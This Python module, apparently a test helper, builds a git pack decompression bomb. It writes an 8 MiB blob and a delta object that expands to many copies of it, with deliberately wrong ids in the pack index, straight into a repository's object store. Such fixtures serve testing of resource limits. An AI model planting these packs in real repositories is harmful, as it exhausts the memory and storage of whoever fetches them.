"""Packs of git whose files are far larger than they are."""

from __future__ import annotations

import struct
import zlib
from hashlib import sha1
from pathlib import Path

_BLOB, _DELTA = 3, 6
_MIB = 1024 * 1024
BASE_ID, BOMB_ID = "11" * 20, "22" * 20
"""The ids that they have in the index: who fetches finds out too late that they are wrong."""


def put_bomb(repository: Path, copies: int) -> None:
    """Give a repository a blob of 8 MiB, and one that is that many copies of it (pack-format(5))."""
    base = _entry(_BLOB, 8 * _MIB, bytes(8 * _MIB))
    copy = bytes([0b11000000, 0x80])  # offset 0; the third byte of the size is 0x80: 8 MiB
    delta = _varint(8 * _MIB) + _varint(copies * 8 * _MIB) + copy * copies
    entries = [base, _entry(_DELTA, len(delta), delta, before=bytes([*_offset(len(base))]))]
    content = struct.pack(">4sII", b"PACK", 2, 2) + b"".join(entries)
    content += sha1(content).digest()
    ids = [bytes.fromhex(each) for each in (BASE_ID, BOMB_ID)]
    counts = [sum(each[0] <= first for each in ids) for first in range(256)]
    index = b"\xfftOc" + struct.pack(">I256I", 2, *counts) + b"".join(ids)
    index += struct.pack(">2I", *map(zlib.crc32, entries))
    index += struct.pack(">2I", 12, 12 + len(base)) + content[-20:]
    index += sha1(index).digest()
    place = repository / ".git" / "objects" / "pack"
    (place / f"pack-{'0' * 40}.pack").write_bytes(content)
    (place / f"pack-{'0' * 40}.idx").write_bytes(index)


def _entry(kind: int, size: int, content: bytes, before: bytes = b"") -> bytes:
    head = [kind << 4 | size & 15]
    size >>= 4
    while size:
        head[-1] |= 0x80
        head.append(size & 0x7F)
        size >>= 7
    return bytes(head) + before + zlib.compress(content, 9)


def _varint(number: int) -> bytes:
    parts = [number & 0x7F]
    while number := number >> 7:
        parts[-1] |= 0x80
        parts.append(number & 0x7F)
    return bytes(parts)


def _offset(distance: int) -> list[int]:
    parts = [distance & 0x7F]
    while distance := distance >> 7:
        distance -= 1
        parts.insert(0, 0x80 | distance & 0x7F)
    return parts
